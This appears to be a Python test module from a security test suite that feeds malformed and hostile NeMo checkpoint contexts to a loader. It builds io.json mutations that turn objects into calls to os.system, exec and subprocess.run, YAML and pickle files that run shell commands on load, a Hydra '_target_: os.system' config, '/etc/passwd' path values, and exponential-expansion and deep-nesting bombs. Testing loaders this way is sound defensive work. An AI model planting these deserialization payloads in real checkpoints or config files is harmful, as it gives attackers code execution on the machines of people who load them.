"""Mutations of a checkpoint's context: `io.json`, and files that NeMo would read beside it."""

import json
from collections.abc import Callable, Iterator
from typing import Any

import attack_pickles as pickles
from attack_json import DEEP, TEXTS, Named, write_text
from attack_victim import CONTEXT, Victim


def all_of_them() -> Iterator[Named]:
    for what, text in TEXTS.items():
        yield what, write_text(CONTEXT, text), False
    for what, change in _CONTEXTS.items():

        def apply(victim: Victim, change: Callable[[Any], Any] = change) -> None:
            path = victim.folder / CONTEXT
            content = json.loads(path.read_text())
            path.write_text(json.dumps(change(content) or content))

        yield what, apply, True
    for number in range(30):
        yield f"a random node {number}", _random_node, True
    for name, make in _BESIDE.items():

        def beside(
            victim: Victim, name: str = name, make: Callable[[Victim], bytes] = make
        ) -> None:
            (victim.folder / "context" / name).write_bytes(make(victim))

        yield f"with {name}", beside, False


def _random_node(victim: Victim) -> None:
    """Replaces or removes some values somewhere in `io.json`."""
    path, dice = victim.folder / CONTEXT, victim.dice
    content = json.loads(path.read_text())
    for holder, key in dice.sample(list(_places(content)), dice.randint(1, 3)):
        holder[key] = dice.choice((None, -1, 10**30, "x", [], {}, 1e308, True, {"type": "ref"}))
    path.write_text(json.dumps(content) + "\n")


def _places(node: Any) -> Iterator[tuple[Any, Any]]:
    """Every place for a value, as its container and key."""
    for key in list(node) if isinstance(node, dict) else range(len(node)):
        yield node, key
        if isinstance(node[key], dict | list):
            yield from _places(node[key])


def _config(content: Any) -> Any:
    """The items of the model's config."""
    return next(o for name, o in content["objects"].items() if "config_1" in name)["items"]


def _set(name: str, value: Any) -> Callable[[Any], Any]:
    """Another value of a field of the model's config."""

    def change(content: Any) -> None:
        for item in _config(content):
            if item[0] == f"Attr(name='{name}')":
                item[1] = value
                return
        _config(content).append([f"Attr(name='{name}')", value])

    return change


def _call(module: str, name: str) -> Callable[[Any], Any]:
    """The first object, which everything names, becomes a call."""

    def change(content: Any) -> None:
        for one in content["objects"].values():
            if one["type"].get("name") == "BuildableTraverserMetadata":
                one["items"][0][1] = {"type": "pyref", "module": module, "name": name}

    return change


def _cycle(content: Any) -> None:
    items = content["objects"]["list_1"]["items"]
    items[0][1] = {"type": "ref", "key": "list_1"}


def _doubled(content: Any) -> None:
    """Lists that name the next one twice: 2 to the power of 60 elements."""
    kind = content["objects"]["list_1"]["type"]
    for number in range(60):
        key = "leaf" if number == 59 else f"bomb_{number + 1}"
        element: Any = {"type": "ref", "key": key}
        if key == "leaf":
            element = {"type": "leaf", "value": 1, "paths": []}
        content["objects"][f"bomb_{number}"] = {
            "type": kind,
            "items": [["Index(index=0)", element], ["Index(index=1)", element]],
            "metadata": None,
            "paths": [],
        }
    _set("recompute_modules", {"type": "ref", "key": "bomb_0"})(content)


def _chain(content: Any) -> None:
    """Lists in lists, one object each: depth without nested JSON."""
    kind = content["objects"]["list_1"]["type"]
    for number in range(20_000):
        element = {"type": "ref", "key": f"chain_{number + 1}"}
        content["objects"][f"chain_{number}"] = {
            **{"type": kind, "items": [["Index(index=0)", element]]},
            **{"metadata": None, "paths": []},
        }
    content["objects"]["chain_20000"] = content["objects"]["set_1"]
    _set("recompute_modules", {"type": "ref", "key": "chain_0"})(content)


def _leaf(value: Any) -> dict[str, Any]:
    return {"type": "leaf", "value": value, "paths": []}


def _root(value: Any) -> Callable[[Any], Any]:
    return lambda content: {**content, "root": value}


_CONTEXTS: dict[str, Callable[[Any], Any]] = {
    **{f"calls {m}.{n}": _call(m, n) for m, n in (("os", "system"), ("builtins", "exec"))},
    **{f"calls {m}.{n}": _call(m, n) for m, n in (("subprocess", "run"), ("torch", "load"))},
    **{f"calls {m}.{n}": _call(m, n) for m, n in (("antigravity", "fly"), ("numpy", "load"))},
    **{f"calls {m!r}": _call(m, "x") for m in ("", "\x1b[31m", "no_such_module", "this")},
    "root None": _root(None),
    "root nowhere": _root({"type": "ref", "key": "nothing"}),
    "root a list": _root([]),
    "no objects": lambda content: {**content, "objects": {}},
    "objects a list": lambda content: {**content, "objects": []},
    "a cycle": _cycle,
    "doubled lists": _doubled,
    "a chain": _chain,
    "no version": lambda content: {k: v for k, v in content.items() if k != "version"},
    "version 99": lambda content: {**content, "version": "99"},
    **{
        f"{name} {value!r:.30}": _set(name, _leaf(value))
        for name, value in (
            *(("hidden_size", 10**9), ("hidden_size", -1), ("hidden_size", "x")),
            *(("num_layers", 10**9), ("num_attention_heads", 0), ("seed", "x")),
            *(("initial_ckpt_path", "/etc/passwd"), ("initial_ckpt_path", "../../canary")),
            *(("tensor_model_parallel_size", 64), ("num_classes", 10**9), ("fp16", True)),
            *(("override_parent_fields", None), ("__class__", "x"), ("model_cls", "os.system")),
        )
    },
    "a value None": _set("hidden_size", None),
    "a value without type": _set("hidden_size", {}),
    "a value that is a list": _set("hidden_size", [1]),
}

#: Files beside io.json that NeMo's own reader would load.
_BESIDE: dict[str, Callable[[Victim], bytes]] = {
    "model.yaml": lambda victim: (
        b"!!python/object/apply:os.system ['touch " + bytes(victim.trace) + b"']\n"
    ),
    "deep.yaml": lambda victim: b"[" * DEEP,
    "target.yaml": lambda victim: b"_target_: os.system\n_args_: [touch x]\n",
    "payload": lambda victim: pickles.plain(pickles.DANGEROUS["os.system"](victim.trace)),
    "payload.pkl": lambda victim: pickles.plain(pickles.DANGEROUS["exec"](victim.trace)),
    "old.pickle": lambda victim: b"cposix\nsystem\n(" + pickles.shell(victim.trace) + b"tR.",
    "old_without_suffix": lambda victim: b"cposix\nsystem\n(S'true'\ntR.",
    "cut.pkl": lambda victim: b"\x80\x04",
    "deep.pkl": lambda victim: pickles.plain(pickles.BOMBS["nested tuples"](victim.trace)),
    "tokenizer.json": lambda victim: b"[" * DEEP,
    "extra.py": lambda victim: b"raise SystemExit(7)\n",
}
